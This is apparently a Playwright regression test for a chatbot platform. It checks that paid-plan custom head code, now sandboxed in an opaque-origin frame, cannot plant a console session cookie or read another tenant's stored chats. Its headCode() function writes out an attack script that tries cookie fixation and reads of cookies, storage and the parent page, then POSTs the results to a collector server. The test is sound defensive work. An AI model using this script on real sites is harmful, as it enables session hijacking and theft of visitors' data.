import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { createBot, group, publishBot, textBubble, textInput, v6Bot } from '../helpers/chat';
import { launchBrowser, screenshot, signInToConsole } from '../helpers/browser';
import { createUserWithToken, startTestServer, type TestServer } from '../helpers/test-server';

// Custom head code (paid plans) used to go in the chat page's <head>, on the
// chat origin: every bot's page, with the console's host name. From there it
// planted a parley_session cookie with a longer Path (the console then worked
// in the planter's workspace) and read other bots' remembered conversations.
// It now runs in a sandboxed frame with an opaque origin: it still sends its
// hits out, and reaches neither.

jest.setTimeout(120_000);

const SECRET_ANSWER = 'acct-5521-secret';

let server: TestServer;
let browser: Browser;
/** The tag's "analytics server": what the head code sends out arrives here. */
let collector: http.Server;
let collectorUrl: string;
const received: { path: string; body: string }[] = [];

beforeAll(async () => {
  server = await startTestServer();
  browser = await launchBrowser();
  collector = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      received.push({ path: req.url ?? '', body });
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((resolve) => collector?.close(resolve));
});

/** Head code that tries everything the reported attack did, then reports what it got (as a tracking tag would send a hit). */
function headCode(): string {
  return `<script>
(async () => {
  const out = {};
  const attempt = (name, run) => {
    try { out[name] = run(); } catch (error) { out[name] = 'refused: ' + (error && error.name); }
  };
  attempt('plantSession', () => { document.cookie = 'parley_session=planted-by-head-code; path=/graphql'; return 'written'; });
  attempt('plantApp', () => { document.cookie = 'parley_session=planted-by-head-code; path=/app'; return 'written'; });
  attempt('cookie', () => document.cookie);
  attempt('localStorage', () => JSON.stringify(Object.entries(localStorage)));
  attempt('sessionStorage', () => JSON.stringify(Object.entries(sessionStorage)));
  attempt('topStorage', () => JSON.stringify(Object.entries(window.top.localStorage)));
  attempt('topCookie', () => window.top.document.cookie);
  attempt('plantTop', () => { window.top.document.cookie = 'parley_session=planted-by-head-code; path=/graphql'; return 'written'; });
  attempt('pageDom', () => window.parent.document.body.innerText.slice(0, 500));
  attempt('open', () => String(window.open(location.href)));
  attempt('referrer', () => document.referrer);
  await fetch(${JSON.stringify(`${collectorUrl}/hit`)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(out) });
})();
</script>`;
}

test("a paid plan's head code plants no cookie for the console and reads no other bot's remembered chat, yet its hits go out", async () => {
  const attacker = await createUserWithToken(server.db, 'head-code@example.com');
  await server.db.workspace.update({ where: { id: attacker.personalWorkspaceId }, data: { plan: 'PRO' } });
  const lure = v6Bot({
    name: 'Spring offer',
    groups: [group('g1', [textBubble('b1', 'Welcome to our spring offer'), textInput('i1')])],
    settings: { metadata: { customHeadCode: headCode() } },
  });
  const { botId } = await createBot(
    server,
    { ...lure, publicId: 'spring-offer' },
    attacker.personalWorkspaceId,
    attacker.token,
  );
  await publishBot(server, botId, attacker.token);
  // Another tenant's bot, remembering its visitors' conversations in the browser.
  const remembered = v6Bot({
    name: 'Bank support',
    groups: [
      group('g1', [textBubble('b1', 'Your account number?'), textInput('i1', 'vacc', 'e1')]),
      group('g2', [textBubble('b2', 'Thanks'), textInput('i2')]),
    ],
    edges: [{ id: 'e1', from: { blockId: 'i1' }, to: { groupId: 'g2' } }],
    variables: [{ id: 'vacc', name: 'Account' }],
    settings: { general: { rememberUser: { isEnabled: true, storage: 'local' } } },
  });
  const victim = await createBot(server, { ...remembered, publicId: 'bank-support' });
  await publishBot(server, victim.botId);

  const { context, page } = await signInToConsole(browser, server.url, {
    email: server.adminEmail,
    password: server.adminPassword,
  });
  const visitor = await context.newPage();
  await visitor.goto(`${server.chatUrl}/bank-support`);
  await visitor.locator('.parley-host', { hasText: 'Your account number?' }).waitFor();
  await visitor.locator('input.parley-field').fill(SECRET_ANSWER);
  await visitor.locator('input.parley-field').press('Enter');
  await visitor.locator('.parley-host', { hasText: 'Thanks' }).waitFor();
  expect(await visitor.evaluate(() => localStorage.getItem('parley-result-bank-support'))).toContain(SECRET_ANSWER);

  // The signed-in admin opens the paid bot's page.
  const offer = await context.newPage();
  await offer.goto(`${server.chatUrl}/spring-offer`);
  await offer.locator('.parley-host', { hasText: 'Welcome to our spring offer' }).waitFor();
  for (const started = Date.now(); received.length === 0 && Date.now() - started < 15_000;)
    await new Promise((resolve) => setTimeout(resolve, 50));
  await screenshot(offer, 'head-code-bot-page');
  await offer.setViewportSize({ width: 390, height: 800 });
  await screenshot(offer, 'head-code-bot-page-390');

  // The head code ran and its hit went out, as an analytics tag's would.
  expect(received.map((each) => each.path)).toEqual(['/hit']);
  const loot = JSON.parse(received[0]!.body) as Record<string, string>;
  // It has no cookies or storage of its own, and the page's are out of reach.
  for (const key of [
    'plantSession',
    'plantApp',
    'cookie',
    'localStorage',
    'sessionStorage',
    'topStorage',
    'topCookie',
    'plantTop',
    'pageDom',
  ])
    expect([key, loot[key]]).toEqual([key, expect.stringMatching(/^refused: /)]);
  expect(loot.open).toBe('null');
  // What it may know of the page: its address, as the frame's referrer (analytics tags send it as the page's location).
  expect(loot.referrer).toBe(`${server.chatUrl}/spring-offer`);
  expect(JSON.stringify(loot)).not.toContain(SECRET_ANSWER);
  expect(JSON.stringify(loot)).not.toContain('parley-result-');
  expect(await offer.locator('iframe[sandbox="allow-scripts"]').count()).toBe(1);

  // No cookie was planted on the console's host; the console still works as the admin.
  const sessionCookies = (await context.cookies()).filter((cookie) => cookie.name === 'parley_session');
  expect(sessionCookies).toHaveLength(1);
  expect(sessionCookies[0]!.value).not.toContain('planted');
  await page.reload();
  await page.getByRole('heading', { name: 'Bots' }).waitFor();
  expect(await page.locator('.who').innerText()).toBe(server.adminEmail);
  await context.close();
});
